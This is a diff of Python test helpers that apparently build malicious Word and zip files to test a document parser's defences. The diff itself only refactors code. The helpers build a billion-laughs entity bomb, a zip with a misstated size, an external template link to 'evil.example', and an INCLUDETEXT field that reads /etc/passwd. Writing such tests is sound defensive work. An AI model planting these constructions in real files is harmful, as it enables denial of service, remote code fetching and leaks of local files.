@@ -7,6 +7,7 @@ import struct
 import zipfile
 import zlib
 from collections.abc import Callable
+from itertools import pairwise
 from pathlib import Path
 
 from tests.source_files import NS, STORY, docx, paragraph
@@ -40,9 +41,7 @@ def _doctype(declared: str, used: str) -> bytes:
 
 def _laughs() -> bytes:
     names = "abcdefghijkl"
-    declared = '<!ENTITY a "ha">' + "".join(
-        f'<!ENTITY {c} "{f"&{b};" * 10}">' for b, c in zip(names, names[1:], strict=False)
-    )
+    declared = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {c} "{f"&{b};" * 10}">' for b, c in pairwise(names))
     return _doctype(declared, "&l;")
 
 
@@ -57,7 +56,9 @@ def _spaces(megabytes: int, *, said: int | None = None, copies: int = 1) -> byte
     size = megabytes * 1_000_000 if said is None else said
     sizes = struct.pack("<III", checksum, len(squeezed), size)
     name = b"word/document.xml"
-    local = b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", len(name), 0) + name + squeezed
+    local = (
+        b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", len(name), 0) + name + squeezed
+    )
     listed = b""
     for i in range(copies):
         shown = name if i == 0 else b"word/part%d.xml" % i
@@ -114,7 +115,9 @@ def _styles() -> bytes:
 def _outside() -> bytes:
     kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
     target = f'<Relationship Id="r1" Type="{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/>'
-    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{target}</Relationships>'
+    relations = (
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{target}</Relationships>'
+    )
     field = '<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
     return docx(BODY + field, **{"word___rels__settings.xml.rels": relations})
 
